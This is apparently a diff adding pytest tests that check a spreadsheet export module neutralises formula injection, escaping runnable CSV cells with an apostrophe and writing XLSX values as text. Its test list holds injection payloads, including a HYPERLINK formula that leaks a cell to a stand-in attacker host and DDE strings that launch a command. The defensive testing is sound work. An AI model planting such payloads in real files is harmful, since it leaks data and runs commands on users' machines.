@@ -1,0 +1,54 @@
+"""The one cell rule: CSV cells a spreadsheet could run get an apostrophe, XLSX texts are text cells."""
+
+import io
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from app.spreadsheets.cells import csv_row, csv_text, unescape_csv_text, xlsx_row
+
+RUNNABLE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\n=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\t123",
+    "\uff1dSUM(A1)",
+    "\uff20SUM(A1)",
+]
+PLAIN = ["Kyläyhdistys ry", "kyla@example.fi", "+358 40 123 4567", "-5", "(09) 123 456", "", "a=b", "1+1"]
+
+
+@pytest.mark.parametrize("value", RUNNABLE)
+def test_a_csv_cell_a_spreadsheet_could_run_gets_an_apostrophe_and_reads_back(value):
+    assert csv_text(value) == "'" + value
+    assert unescape_csv_text(csv_text(value)) == value
+
+
+@pytest.mark.parametrize("value", PLAIN)
+def test_text_numbers_and_phone_numbers_stay_as_written_in_csv(value):
+    assert csv_text(value) == value
+    assert unescape_csv_text(value) == value
+
+
+def test_csv_row_writes_none_as_empty_and_leaves_numbers_alone():
+    assert csv_row([None, 3, 1.5, "=1"]) == ["", 3, 1.5, "'=1"]
+
+
+@pytest.mark.parametrize("write_only", [True, False])
+def test_xlsx_texts_are_text_cells_never_formulas_or_errors(write_only):
+    workbook = Workbook(write_only=write_only)
+    sheet = workbook.create_sheet("Data") if write_only else workbook.active
+    sheet.append(xlsx_row(sheet, [*RUNNABLE[:4], "#N/A", "ctrl\x01char", 7, None]))
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())[0]
+    assert [cell.data_type for cell in cells[:6]] == ["s"] * 6
+    assert [cell.value for cell in cells[:4]] == RUNNABLE[:4]
+    assert cells[5].value == "ctrlchar"  # XML cannot hold the control character
+    assert cells[6].value == 7 and cells[6].data_type == "n"
